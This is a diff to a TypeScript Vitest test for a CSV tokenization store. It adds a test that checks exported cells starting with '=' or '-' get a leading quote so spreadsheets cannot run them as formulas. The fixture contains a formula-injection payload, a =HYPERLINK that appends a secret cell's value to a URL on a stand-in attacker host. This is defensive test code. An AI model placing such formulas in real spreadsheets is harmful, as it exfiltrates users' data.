@@ -1,3 +1,4 @@
+import Papa from 'papaparse'
 import { createPinia, setActivePinia } from 'pinia'
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import { setApi } from '@renderer/api'
@@ -21,7 +22,10 @@ function csv(rows: number): string {
 
 describe('useTokenizeStore', () => {
   beforeEach(() => setActivePinia(createPinia()))
-  afterEach(() => setApi(undefined))
+  afterEach(() => {
+    setApi(undefined)
+    vi.restoreAllMocks()
+  })
 
   it('reads a CSV header and guesses a card column from its name and values', () => {
     const store = useTokenizeStore()
@@ -137,6 +141,24 @@ describe('useTokenizeStore', () => {
     await store.run()
     expect(store.status).toBe('done')
     expect(run).toHaveBeenCalledWith([{ card_number: { type: 'card', data: { number: '4242424242424242' } } }])
+  })
+
+  it('exports kept cells a spreadsheet would run as a formula behind a quote', async () => {
+    setApi(fakeApi({ tokenize: { run: echoTokenize() } }))
+    const blobs: Blob[] = []
+    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:csv'))
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
+    const store = useTokenizeStore()
+    store.loadCsv('note,secret\n"=HYPERLINK(""https://evil.example/?d=""&B2,""x"")",a\n-1-1,b\nplain,c\n', 'notes.csv')
+    store.setRole('note', 'keep')
+    await store.run()
+    store.exportCsv()
+    const [, ...rows] = Papa.parse<string[]>(await blobs[0].text(), { skipEmptyLines: true }).data
+    expect(rows).toEqual([
+      [`'=HYPERLINK("https://evil.example/?d="&B2,"x")`, 'tok_0'],
+      ["'-1-1", 'tok_1'],
+      ['plain', 'tok_2']
+    ])
   })
 
   it('cannot run without a tokenized column', () => {
